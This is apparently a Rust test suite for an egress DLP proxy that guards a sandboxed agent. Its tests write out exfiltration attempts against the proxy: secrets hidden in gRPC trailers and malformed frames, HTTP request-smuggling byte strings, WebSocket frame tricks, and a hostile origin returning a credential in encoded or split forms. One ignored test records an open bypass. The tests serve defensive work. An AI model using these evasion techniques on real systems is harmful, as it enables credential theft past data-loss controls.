//! A hostile agent on the new HTTP/2 paths (issue 16): gRPC through pipelock and egress,
//! request trailers, the HTTP/2 hop for requests with `TE: trailers`, RFC 8441 extended
//! CONNECT, and an origin that hands the injected credential back in forms spread over
//! several gRPC messages or trailers. Each attempt proves nothing arrived: the canary is
//! absent from what the origin recorded, and the credential from what the agent read.
//! Needs `target/debug/pipelock`: run `cargo build -p pipelock` first.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::convert::Infallible;
use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use common::*;
use http::{HeaderMap, Request, Response, StatusCode};
use http_body_util::{BodyExt, Empty, StreamBody};
use hyper::body::{Frame, Incoming};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::mpsc;

/// A fake GitHub token pipelock's DLP knows (no real credential).
fn github_token() -> String {
    format!("ghp_{}", &"Zq8Lr3Tx6Wv1Np9Ks4Hb7Jd2Mf5Gc0Ye8Ua3Io6Pl"[..36])
}

struct Setup {
    fx: Fixture,
    pl: Pipelock,
}

impl Setup {
    async fn new() -> Setup {
        let fx = Fixture::new().await;
        let pl = start_pipelock(fx.tmp.path(), &fx.eg.cfg_dir, fx.eg.addr).await;
        Setup { fx, pl }
    }

    fn port(&self) -> u16 {
        self.fx.origin.https_addr.port()
    }

    /// Everything the echo origin recorded (bodies, trailers, paths, headers), as text.
    fn origin_saw(&self) -> String {
        let mut all = String::new();
        for r in self.fx.origin.requests() {
            all.push_str(&r.uri);
            for (n, v) in r.headers.iter().chain(r.trailers.iter()) {
                all.push_str(&format!("\n{n}: {v}"));
            }
            all.push('\n');
            all.push_str(&String::from_utf8_lossy(&r.body));
            all.push('\n');
        }
        all
    }

    fn finish(mut self) {
        if let Some(mut c) = self.pl.child.take() {
            signal(c.id(), "TERM");
            wait_timeout(&mut c, Duration::from_secs(20));
        }
        self.fx.finish();
    }
}

fn grpc_msg(flag: u8, payload: &[u8]) -> Bytes {
    let mut v = vec![flag];
    v.extend_from_slice(&(payload.len() as u32).to_be_bytes());
    v.extend_from_slice(payload);
    Bytes::from(v)
}

/// Sends one request whose body is `frames` (data and trailers), ended after them.
async fn send_frames(
    agent: &mut hyper::client::conn::http2::SendRequest<ReqBody>,
    req: http::request::Builder,
    frames: Vec<Frame<Bytes>>,
) -> Result<Response<Incoming>, hyper::Error> {
    let (tx, rx) = mpsc::channel::<Frame<Bytes>>(frames.len().max(1));
    for f in frames {
        tx.send(f).await.unwrap();
    }
    drop(tx);
    let stream = futures_util::stream::unfold(rx, |mut rx| async move {
        rx.recv().await.map(|f| (Ok::<_, Infallible>(f), rx))
    });
    let req = req.body(BodyExt::boxed(StreamBody::new(stream))).unwrap();
    agent.ready().await.unwrap();
    tokio::time::timeout(Duration::from_secs(20), agent.send_request(req))
        .await
        .expect("a response head in time")
}

fn grpc_req(uri: &str, ct: &str) -> http::request::Builder {
    Request::post(uri)
        .header("content-type", ct)
        .header("te", "trailers")
}

/// Everything of a response: head, data, trailers (None when it failed or had none).
async fn read_all(
    r: Result<Response<Incoming>, hyper::Error>,
) -> Option<(StatusCode, HeaderMap, Vec<u8>, Option<HeaderMap>)> {
    let mut r = r.ok()?;
    let mut data = Vec::new();
    loop {
        match tokio::time::timeout(Duration::from_secs(20), r.body_mut().frame())
            .await
            .expect("a frame in time")
        {
            Some(Ok(f)) => match f.into_data() {
                Ok(d) => data.extend_from_slice(&d),
                Err(f) => {
                    return Some((
                        r.status(),
                        r.headers().clone(),
                        data,
                        f.into_trailers().ok(),
                    ))
                }
            },
            _ => return Some((r.status(), r.headers().clone(), data, None)),
        }
    }
}

/// The request was refused by a sidecar: 403 with `X-Bottle-Blocked`, a gRPC status
/// (trailers-only head or trailers) other than OK, or the stream failed (a gRPC answer
/// without any status: a reset, which gRPC clients report as an error).
fn refused(got: &Option<(StatusCode, HeaderMap, Vec<u8>, Option<HeaderMap>)>) -> bool {
    let Some((status, head, _, trailers)) = got else {
        return true;
    };
    if head.contains_key("x-bottle-blocked") && !status.is_success() {
        return true;
    }
    let st = head
        .get("grpc-status")
        .or_else(|| trailers.as_ref().and_then(|t| t.get("grpc-status")));
    let grpc = head
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.starts_with("application/grpc"));
    match st {
        Some(s) => s != "0",
        None => grpc,
    }
}

/// The echo origin never saw the token, nor a 20-byte piece of it.
fn assert_origin_never_saw(s: &Setup, tok: &str, what: &str) {
    let saw = s.origin_saw();
    assert!(!saw.contains(tok), "{what}: the origin got the secret");
    for piece in [&tok[..20], &tok[20..]] {
        assert!(!saw.contains(piece), "{what}: the origin got a piece of it");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_grpc_secret_in_request_trailers_of_any_name_never_arrives() {
    bounded(async {
        let s = Setup::new().await;
        let tok = github_token();
        let uri = s.fx.url("open.test", "/echo.Echo/Unary");
        let mut agent = agent_h2(&s.pl, "open.test", s.port()).await;
        for name in [
            "authorization",
            "proxy-authorization",
            "cookie",
            "grpc-status",
            "grpc-message",
            "grpc-timeout",
            "x-api-key",
            "content-type",
            "host",
        ] {
            let mut t = HeaderMap::new();
            let v = if name == "authorization" {
                format!("Bearer {tok}")
            } else {
                tok.clone()
            };
            t.insert(http::HeaderName::from_static(name), v.parse().unwrap());
            let frames = vec![Frame::data(grpc_msg(0, b"t")), Frame::trailers(t)];
            let got =
                read_all(send_frames(&mut agent, grpc_req(&uri, "application/grpc"), frames).await)
                    .await;
            assert!(refused(&got), "trailer {name}: not refused: {got:?}");
        }
        // split between a header and a trailer: judged joined
        let mut t = HeaderMap::new();
        t.insert("x-b", tok[16..].parse().unwrap());
        let got = read_all(
            send_frames(
                &mut agent,
                grpc_req(&uri, "application/grpc").header("x-a", &tok[..16]),
                vec![Frame::data(grpc_msg(0, b"t")), Frame::trailers(t)],
            )
            .await,
        )
        .await;
        assert!(refused(&got), "header + trailer split: {got:?}");
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert_origin_never_saw(&s, &tok, "trailers");
        s.finish();
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_grpc_lying_length_prefixes_and_flags_never_carry_a_secret_out() {
    bounded(async {
        let s = Setup::new().await;
        let tok = github_token();
        let uri = s.fx.url("open.test", "/echo.Echo/Unary");
        let mut agent = agent_h2(&s.pl, "open.test", s.port()).await;
        let mut cases: Vec<(&str, &str, Vec<Bytes>)> = Vec::new();
        // a prefix claiming 4 GiB, the secret behind it
        let mut huge = vec![0u8, 0xff, 0xff, 0xff, 0xff];
        huge.extend_from_slice(tok.as_bytes());
        cases.push((
            "4 GiB prefix",
            "application/grpc",
            vec![grpc_msg(0, b"ok"), Bytes::from(huge)],
        ));
        // a prefix longer than what follows, then the body ends: the tail is never sent
        let mut long = vec![0u8, 0, 0, 0x10, 0];
        long.extend_from_slice(tok.as_bytes());
        cases.push(("long prefix", "application/grpc", vec![Bytes::from(long)]));
        // a prefix shorter than the data: the rest reads as the next message's prefix
        let mut short = grpc_msg(0, b"ab").to_vec();
        short.extend_from_slice(&grpc_msg(0, tok.as_bytes()));
        cases.push(("short prefix", "application/grpc", vec![Bytes::from(short)]));
        // many empty messages, then the secret
        let mut flood = Vec::new();
        for _ in 0..20_000 {
            flood.extend_from_slice(&[0u8; 5]);
        }
        flood.extend_from_slice(&grpc_msg(0, tok.as_bytes()));
        cases.push((
            "zero-length flood",
            "application/grpc",
            vec![Bytes::from(flood)],
        ));
        // the secret split at every byte over one-byte DATA frames
        let whole = grpc_msg(0, format!("k={tok}").as_bytes());
        let bytes: Vec<Bytes> = whole.iter().map(|b| Bytes::from(vec![*b])).collect();
        cases.push(("one-byte frames", "application/grpc", bytes));
        // one message per byte of the secret
        let per_byte: Vec<Bytes> = tok.bytes().map(|b| grpc_msg(0, &[b])).collect();
        cases.push(("one message per byte", "application/grpc", per_byte));
        // gRPC-Web's trailer-frame flag, and the compressed flag under identity
        cases.push((
            "flag 0x80",
            "application/grpc-web+proto",
            vec![grpc_msg(0x80, tok.as_bytes())],
        ));
        cases.push((
            "flag 0x01 identity",
            "application/grpc",
            vec![grpc_msg(1, tok.as_bytes())],
        ));
        // content types that could skip the framing: odd case and parameters, +json,
        // grpc-web, grpc-web-text (base64 text, scanned as text)
        for ct in [
            "Application/GRPC+JSON; charset=utf-8",
            "application/grpc ; q=1",
            "application/grpc-web",
            "application/grpcweb",
            "application/x-grpc",
        ] {
            cases.push((
                ct,
                ct,
                vec![grpc_msg(0, format!("{{\"k\":\"{tok}\"}}").as_bytes())],
            ));
        }
        use base64::Engine;
        let b64 = base64::engine::general_purpose::STANDARD;
        let text = format!(
            "{}{}",
            b64.encode(grpc_msg(0, b"hello")),
            b64.encode(grpc_msg(0, format!("x {tok}").as_bytes()))
        );
        cases.push((
            "grpc-web-text",
            "application/grpc-web-text",
            vec![Bytes::from(text)],
        ));
        for (what, ct, chunks) in cases {
            let mut req = grpc_req(&uri, ct);
            if what == "flag 0x01 identity" {
                req = req.header("grpc-encoding", "identity");
            }
            let frames = chunks.into_iter().map(Frame::data).collect();
            let got = read_all(send_frames(&mut agent, req, frames).await).await;
            // what came back is the origin's echo: the secret there means it arrived
            if let Some((_, h, data, t)) = &got {
                let back = [
                    headers_text(h),
                    data.clone(),
                    t.as_ref().map(headers_text).unwrap_or_default(),
                ]
                .concat();
                assert!(
                    !String::from_utf8_lossy(&back).contains(&tok),
                    "{what}: echoed"
                );
            }
            if what != "long prefix" {
                assert!(refused(&got), "{what}: not refused: {got:?}");
            }
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert_origin_never_saw(&s, &tok, "framing");
        s.finish();
    })
    .await
}

/// A protobuf string field's length byte sits right before its value: when it reads as a
/// letter or digit (lengths 48-57, 65-90, 97-122), a token starting the value is glued to it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_grpc_protobuf_length_byte_glued_to_a_token_is_still_found() {
    bounded(async {
        let s = Setup::new().await;
        let tok = github_token();
        let uri = s.fx.url("open.test", "/echo.Echo/Bidi");
        let mut agent = agent_h2(&s.pl, "open.test", s.port()).await;
        // field 1, string of 104 bytes (0x68 = 'h'): the token and a note
        let mut value = tok.clone().into_bytes();
        value.resize(104, b' ');
        let mut pb = vec![0x0a, value.len() as u8];
        pb.extend_from_slice(&value);
        let got = read_all(
            send_frames(
                &mut agent,
                grpc_req(&uri, "application/grpc"),
                vec![Frame::data(grpc_msg(0, &pb))],
            )
            .await,
        )
        .await;
        assert!(refused(&got), "protobuf field: not refused");
        // the same, the token split over two messages, the first ending in a letter
        let first = format!("note x{}", &tok[..12]);
        let got = read_all(
            send_frames(
                &mut agent,
                grpc_req(&uri, "application/grpc"),
                vec![
                    Frame::data(grpc_msg(0, first.as_bytes())),
                    Frame::data(grpc_msg(0, &tok.as_bytes()[12..])),
                ],
            )
            .await,
        )
        .await;
        assert!(refused(&got), "split after a letter: not refused");
        tokio::time::sleep(Duration::from_millis(300)).await;
        let saw = s.origin_saw();
        assert!(!saw.contains(&tok), "the origin got the token");
        assert!(!saw.contains(&tok[12..]), "the origin got the token's rest");
        s.finish();
    })
    .await
}

/// The agent's TLS connection to `host:port` through pipelock with ALPN `alpn`.
async fn agent_tls(
    pl: &Pipelock,
    host: &str,
    port: u16,
    alpn: &[u8],
) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
    let mut tcp = tokio::net::TcpStream::connect(pl.addr).await.unwrap();
    tcp.write_all(
        format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n").as_bytes(),
    )
    .await
    .unwrap();
    let head = read_head(&mut tcp).await;
    assert!(head.contains(" 200"), "{head}");
    let ca = echo_origin::TestCa::from_pem(
        &std::fs::read_to_string(&pl.ca).unwrap(),
        &std::fs::read_to_string(pl.ca.with_file_name("ca.key")).unwrap(),
    )
    .unwrap();
    let cfg = ca.client_config(&[alpn]).unwrap();
    tokio_rustls::TlsConnector::from(cfg)
        .connect(
            rustls::pki_types::ServerName::try_from(host.to_string()).unwrap(),
            tcp,
        )
        .await
        .unwrap()
}

async fn read_head<S: tokio::io::AsyncRead + Unpin>(s: &mut S) -> String {
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match tokio::time::timeout(Duration::from_secs(20), s.read(&mut b)).await {
            Ok(Ok(1)) => head.push(b[0]),
            _ => break,
        }
    }
    String::from_utf8_lossy(&head).into_owned()
}

/// HTTP/1.1 from the agent with `TE: trailers` (so pipelock takes the HTTP/2 hop to egress):
/// a secret in a chunked trailer, and framing that could smuggle a second request.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_h1_with_te_trailers_cannot_smuggle_a_secret_onto_the_h2_hop() {
    bounded(async {
        let s = Setup::new().await;
        let tok = github_token();
        let port = s.port();
        let frame = grpc_msg(0, b"hello");
        let chunk = |b: &[u8]| [format!("{:x}\r\n", b.len()).into_bytes(), b.to_vec(), b"\r\n".to_vec()].concat();
        let attempts: Vec<(&str, Vec<u8>)> = vec![
            (
                "grpc chunked trailer",
                [
                    format!("POST /echo.Echo/Unary HTTP/1.1\r\nHost: open.test:{port}\r\nTE: trailers\r\nContent-Type: application/grpc\r\nTransfer-Encoding: chunked\r\nTrailer: x-token\r\n\r\n").into_bytes(),
                    chunk(&frame),
                    format!("0\r\nx-token: {tok}\r\n\r\n").into_bytes(),
                ].concat(),
            ),
            (
                "text chunked trailer",
                [
                    format!("POST /post HTTP/1.1\r\nHost: open.test:{port}\r\nTE: trailers\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n").into_bytes(),
                    chunk(b"hello"),
                    format!("0\r\nauthorization: Bearer {tok}\r\n\r\n").into_bytes(),
                ].concat(),
            ),
            (
                "content-length and chunked",
                format!("POST /post HTTP/1.1\r\nHost: open.test:{port}\r\nTE: trailers\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nPOST /post HTTP/1.1\r\nHost: open.test:{port}\r\nContent-Length: 40\r\n\r\n{tok}").into_bytes(),
            ),
            (
                "short content-length, smuggled second request",
                format!("POST /post HTTP/1.1\r\nHost: open.test:{port}\r\nTE: trailers\r\nContent-Length: 0\r\n\r\nPOST /post HTTP/1.1\r\nHost: open.test:{port}\r\nContent-Length: 40\r\n\r\n{tok}").into_bytes(),
            ),
        ];
        for (what, bytes) in attempts {
            let mut tls = agent_tls(&s.pl, "open.test", port, b"http/1.1").await;
            tls.write_all(&bytes).await.unwrap();
            let mut got = Vec::new();
            let _ = tokio::time::timeout(Duration::from_secs(3), tls.read_to_end(&mut got)).await;
            // a second request's answer may be the origin's echo of it: never the secret
            let text = String::from_utf8_lossy(&got).into_owned();
            if what.starts_with("short") {
                // the second request is an ordinary request of its own: pipelock's DLP
                // judges it, so the secret in its body is refused
                assert!(!text.contains(&tok), "{what}: echoed");
            }
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert_origin_never_saw(&s, &tok, "h1 with TE: trailers");
        s.finish();
    })
    .await
}

/// One client frame (masked) with the given first byte (FIN, RSV bits, opcode).
fn ws_frame(b0: u8, payload: &[u8]) -> Vec<u8> {
    let mask = [0x5au8, 0x17, 0xc3, 0x08];
    let mut v = vec![b0];
    match payload.len() {
        n if n < 126 => v.push(0x80 | n as u8),
        n => {
            v.push(0x80 | 126);
            v.extend_from_slice(&(n as u16).to_be_bytes());
        }
    }
    v.extend_from_slice(&mask);
    v.extend(payload.iter().enumerate().map(|(i, b)| b ^ mask[i % 4]));
    v
}

/// RFC 8441 stream to the echo origin's `/ws`: frames that try to slip a secret past the
/// frame DLP (RSV bits without an extension, fragments, control frames) never arrive.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_websocket_over_h2_frames_never_carry_a_secret_out() {
    bounded(async {
        let s = Setup::new().await;
        let tok = github_token();
        let port = s.port();
        let (a, b) = tok.split_at(15);
        let attempts: Vec<(&str, Vec<u8>)> = vec![
            ("rsv1 text", ws_frame(0x80 | 0x40 | 0x1, tok.as_bytes())),
            ("rsv3 binary", ws_frame(0x80 | 0x10 | 0x2, tok.as_bytes())),
            (
                "fragments",
                [
                    ws_frame(0x1, format!("x {a}").as_bytes()),
                    ws_frame(0x80, b.as_bytes()),
                ]
                .concat(),
            ),
            (
                "ping inside fragments",
                [
                    ws_frame(0x1, a.as_bytes()),
                    ws_frame(0x80 | 0x9, b"p"),
                    ws_frame(0x80, b.as_bytes()),
                ]
                .concat(),
            ),
            ("ping", ws_frame(0x80 | 0x9, tok.as_bytes())),
            ("pong", ws_frame(0x80 | 0xA, tok.as_bytes())),
            (
                "close reason",
                ws_frame(0x80 | 0x8, &[&[0x03, 0xe8][..], tok.as_bytes()].concat()),
            ),
            ("reserved opcode", ws_frame(0x80 | 0x3, tok.as_bytes())),
        ];
        for (what, bytes) in attempts {
            let mut agent = agent_h2(&s.pl, "open.test", port).await;
            let mut req = Request::connect(format!("https://open.test:{port}/ws"))
                .header("sec-websocket-version", "13")
                .header("sec-websocket-extensions", "permessage-deflate")
                .body(BodyExt::boxed(Empty::new().map_err(|e| match e {})))
                .unwrap();
            req.extensions_mut()
                .insert(hyper::ext::Protocol::from_static("websocket"));
            agent.ready().await.unwrap();
            let r = agent.send_request(req).await.unwrap();
            assert_eq!(r.status(), StatusCode::OK, "{what}");
            assert!(
                !r.headers().contains_key("sec-websocket-extensions"),
                "{what}"
            );
            let mut up = hyper_util::rt::TokioIo::new(hyper::upgrade::on(r).await.unwrap());
            up.write_all(&bytes).await.unwrap();
            let mut back = Vec::new();
            let _ = tokio::time::timeout(Duration::from_secs(2), up.read_to_end(&mut back)).await;
            assert!(
                !String::from_utf8_lossy(&back).contains(b),
                "{what}: echoed"
            );
            drop(up);
            drop(agent);
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
        let saw = s.origin_saw();
        assert!(!saw.contains(&tok), "the origin got the secret");
        assert!(!saw.contains(b), "the origin got the secret's second part");
        s.finish();
    })
    .await
}

// ---- an origin that hands the credential back in forms spread over messages/trailers ----

/// `&#x00XX;` for every byte (an HTML escaper escaping everything, zero-padded).
fn html_x(b: &[u8]) -> String {
    b.iter().map(|c| format!("&#x{c:04x};")).collect()
}

/// What the hostile origin answers: by the path's last segment.
async fn hostile_answer(
    req: Request<Incoming>,
) -> Response<http_body_util::combinators::BoxBody<Bytes, Infallible>> {
    let auth = req
        .headers()
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    let cred = auth
        .split_once(' ')
        .map(|(_, t)| t.to_string())
        .unwrap_or(auth);
    let last = req
        .uri()
        .path()
        .rsplit('/')
        .next()
        .unwrap_or_default()
        .to_string();
    let mut frames: Vec<Frame<Bytes>> = Vec::new();
    let mut t = HeaderMap::new();
    t.insert("grpc-status", "0".parse().unwrap());
    let ct = match last.as_str() {
        // the credential as HTML character references, its first part ending one message,
        // the rest the next
        "HtmlSplit" => {
            let cut = cred.len() - 2;
            for piece in [&cred.as_bytes()[..cut], &cred.as_bytes()[cut..]] {
                frames.push(Frame::data(grpc_msg(0, html_x(piece).as_bytes())));
            }
            "application/grpc"
        }
        // the same over three messages, under eight bytes of it at each end (no fragment)
        "HtmlThree" => {
            let (a, b) = (7, cred.len() - 7);
            let c = cred.as_bytes();
            for piece in [&c[..a], &c[a..b], &c[b..]] {
                frames.push(Frame::data(grpc_msg(0, html_x(piece).as_bytes())));
            }
            "application/grpc"
        }
        // gRPC-Web text: each message base64 on its own, the credential split over two
        "WebTextSplit" => {
            use base64::Engine;
            let b64 = base64::engine::general_purpose::STANDARD;
            let (a, b) = cred.as_bytes().split_at(cred.len() / 2);
            let text = format!(
                "{}{}",
                b64.encode(grpc_msg(0, a)),
                b64.encode(grpc_msg(0, b))
            );
            frames.push(Frame::data(Bytes::from(text)));
            "application/grpc-web-text"
        }
        // the credential fully percent-encoded in grpc-message and in a custom trailer
        "PctTrailer" => {
            frames.push(Frame::data(grpc_msg(0, b"ok")));
            let pct: String = cred.bytes().map(|c| format!("%{c:02X}")).collect();
            t.insert("grpc-message", pct.parse().unwrap());
            t.insert("x-detail", format!("token={cred}").parse().unwrap());
            "application/grpc"
        }
        // not gRPC: a plain answer with trailers (the HTTP/2 hop carries them)
        _ => {
            frames.push(Frame::data(Bytes::from_static(b"hello")));
            t.insert("x-leak", cred.parse().unwrap());
            "text/plain"
        }
    };
    frames.push(Frame::trailers(t));
    let stream = futures_util::stream::iter(frames.into_iter().map(Ok::<_, Infallible>));
    let mut r = Response::new(BodyExt::boxed(StreamBody::new(stream)));
    r.headers_mut().insert("content-type", ct.parse().unwrap());
    r
}

/// The hostile origin on a loopback port, TLS (a leaf from the echo origin's CA, which
/// egress trusts), HTTP/2 and HTTP/1.1.
async fn hostile_origin(ca: &echo_origin::TestCa) -> SocketAddr {
    let cfg = ca.server_config(&["bearer.test"]).unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(cfg);
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = l.accept().await {
            let acc = acceptor.clone();
            tokio::spawn(async move {
                let Ok(tls) = acc.accept(tcp).await else {
                    return;
                };
                let svc = hyper::service::service_fn(|r| async move {
                    Ok::<_, Infallible>(hostile_answer(r).await)
                });
                let _ = hyper_util::server::conn::auto::Builder::new(
                    hyper_util::rt::TokioExecutor::new(),
                )
                .serve_connection(hyper_util::rt::TokioIo::new(tls), svc)
                .await;
            });
        }
    });
    addr
}

/// Undoes `&#x00XX;` and `%XX` escapes (what the agent would do with what it got).
fn unescape(b: &[u8]) -> Vec<u8> {
    let s = String::from_utf8_lossy(b);
    let mut out = Vec::new();
    let bytes = s.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i..].starts_with(b"&#x") && i + 8 <= bytes.len() && bytes[i + 7] == b';' {
            if let Ok(v) = u8::from_str_radix(&s[i + 5..i + 7], 16) {
                out.push(v);
                i += 8;
                continue;
            }
        }
        if bytes[i] == b'%' && i + 3 <= bytes.len() {
            if let Ok(v) = u8::from_str_radix(&s[i + 1..i + 3], 16) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    out
}

/// Asks the hostile origin for `path` as the agent; panics if the credential came back in
/// anything the agent read: head, data, trailers, escapes undone, message payloads joined
/// (gRPC-Web text decoded first).
async fn assert_credential_never_comes_back(s: &Setup, paths: &[(&str, &str)]) {
    let addr = hostile_origin(&s.fx.origin.ca).await;
    let base = format!("https://bearer.test:{}", addr.port());
    let mut agent = agent_h2(&s.pl, "bearer.test", addr.port()).await;
    let cred = s.fx.secrets.bearer.clone();
    for &(path, ct) in paths {
        let req = grpc_req(&format!("{base}{path}"), ct);
        let got =
            read_all(send_frames(&mut agent, req, vec![Frame::data(grpc_msg(0, b"q"))]).await)
                .await
                .expect("an answer");
        let (_, head, mut data, trailers) = got;
        let mut seen = headers_text(&head);
        seen.extend_from_slice(&data);
        if let Some(t) = &trailers {
            seen.extend_from_slice(&headers_text(t));
        }
        if ct.ends_with("-text") {
            use base64::Engine;
            let b64 = base64::engine::general_purpose::STANDARD;
            let text = String::from_utf8_lossy(&data).into_owned();
            data = text
                .split_inclusive('=')
                .filter(|p| !p.trim_end_matches('=').is_empty())
                .flat_map(|p| b64.decode(p).unwrap_or_default())
                .collect();
        }
        // message payloads joined, as the agent's code would join them
        let mut joined = Vec::new();
        let mut rest = &data[..];
        while rest.len() >= 5 {
            let n = u32::from_be_bytes([rest[1], rest[2], rest[3], rest[4]]) as usize;
            let end = (5 + n).min(rest.len());
            joined.extend_from_slice(&rest[5..end]);
            rest = &rest[end..];
        }
        for view in [seen.clone(), unescape(&seen), unescape(&joined)] {
            assert!(
                !String::from_utf8_lossy(&view).contains(&cred),
                "{path}: the agent got the credential"
            );
        }
        assert_clean(path, &seen, &s.fx.secrets.all());
    }
}

/// The origin hands the injected credential back as HTML character references over two or
/// three gRPC messages, percent-encoded in `grpc-message`, in a custom trailer, in a non-gRPC
/// answer's trailers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_origin_credential_in_split_messages_or_trailers_never_reaches_the_agent() {
    bounded(async {
        let s = Setup::new().await;
        let paths = [
            ("/x.X/HtmlSplit", "application/grpc"),
            ("/x.X/HtmlThree", "application/grpc"),
            ("/x.X/PctTrailer", "application/grpc"),
            ("/plain", "text/plain"),
        ];
        assert_credential_never_comes_back(&s, &paths).await;
        s.finish();
    })
    .await
}

/// gRPC-Web text: each message base64 on its own (padded), the credential split over two:
/// neither run holds a whole base64 form, and egress scrubs the text as a byte stream.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "hole: the credential split over two grpc-web-text messages (each base64 on its own) reaches the agent"]
async fn hostile_origin_credential_split_over_grpc_web_text_messages_never_reaches_the_agent() {
    bounded(async {
        let s = Setup::new().await;
        let paths = [("/x.X/WebTextSplit", "application/grpc-web-text")];
        assert_credential_never_comes_back(&s, &paths).await;
        s.finish();
    })
    .await
}
